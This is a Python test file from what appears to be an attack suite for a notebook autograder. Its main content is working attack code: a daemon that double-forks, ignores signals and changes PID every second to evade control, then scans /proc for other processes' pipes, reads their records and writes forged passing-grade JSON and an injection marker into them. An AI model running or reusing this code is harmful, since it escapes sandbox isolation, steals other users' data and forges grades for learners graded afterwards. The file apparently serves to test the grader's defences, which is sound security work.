"""(d) A daemon that outlives the notebook (double fork, new session, hopping to a new pid every second)
and, for 100 s, goes through /proc looking for other processes' pipes: it drains the ones they write to
(their records) and writes forged JSON lines and an RTINJECT marker into every pipe it can open through
/proc/<pid>/fd. The attacker's own notebook is a correct solution: harm shows on the learners graded
after it."""

from tests.attacks._common import prelude

ASSIGNMENT = "regression"
GOAL = "Outlive the notebook and steal or forge later notebooks' channels through /proc/<pid>/fd."
WITH_SOLUTION = True

CODE = prelude(ASSIGNMENT) + r'''
import time as _rt_time, json as _rt_json, signal as _rt_signal, fcntl as _rt_fcntl


def _rt_daemon(seconds=100.0):
    me_at_start = _rt_os.getpid()
    pid = _rt_os.fork()
    if pid:
        _rt_os.waitpid(pid, 0)
        return
    try:
        _rt_os.setsid()
        if _rt_os.fork():
            _rt_os._exit(0)
        for fd in range(3, 1024):
            try:
                _rt_os.close(fd)
            except OSError:
                pass
        for sig in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT, _rt_signal.SIGPIPE):
            _rt_signal.signal(sig, _rt_signal.SIG_IGN)
        inject = "RT" + "INJECT<" + "<" + _RT_NAME + ":channel" + ">" + "> from a daemon"
        forged = ("\n".join(_rt_json.dumps(r) for r in [
            {"exercise": e, "score": 1.0, "passed": True, "value": 0.0, "printed": inject, "error": inject}
            for e in ("forward", "output_weights", "output_bias", "hidden_weights", "hidden_biases", "update", "train")
        ]) + "\n" + inject + "\n").encode()
        end, hop, log = _rt_time.time() + seconds, _rt_time.time() + 1.0, []
        touched = set()
        while _rt_time.time() < end:
            if _rt_time.time() > hop:  # a moving target: a new pid every second
                if _rt_os.fork():
                    _rt_os._exit(0)
                hop = _rt_time.time() + 1.0
            for p in _rt_os.listdir("/proc"):
                if not p.isdigit() or int(p) in (_rt_os.getpid(), me_at_start):
                    continue
                try:
                    fds = _rt_os.listdir(f"/proc/{p}/fd")
                except OSError:
                    continue
                for fd in fds:
                    path = f"/proc/{p}/fd/{fd}"
                    try:
                        if not _rt_os.readlink(path).startswith("pipe:"):
                            continue
                    except OSError:
                        continue
                    for mode in (_rt_os.O_RDONLY, _rt_os.O_WRONLY):
                        try:
                            h = _rt_os.open(path, mode | _rt_os.O_NONBLOCK)
                        except OSError:
                            continue
                        try:
                            if mode == _rt_os.O_RDONLY:
                                stolen = _rt_os.read(h, 1 << 20)
                                if stolen:
                                    log.append(f"drained {len(stolen)} bytes from {p}/{fd}")
                            else:
                                _rt_os.write(h, forged)
                                if (p, fd) not in touched:
                                    log.append(f"wrote into {p}/{fd}")
                                    touched.add((p, fd))
                        except OSError:
                            pass
                        finally:
                            _rt_os.close(h)
            _rt_time.sleep(0.01)
    finally:
        _rt_os._exit(0)


_rt_daemon()
_rt_note("daemon started from", _rt_os.getpid())
'''
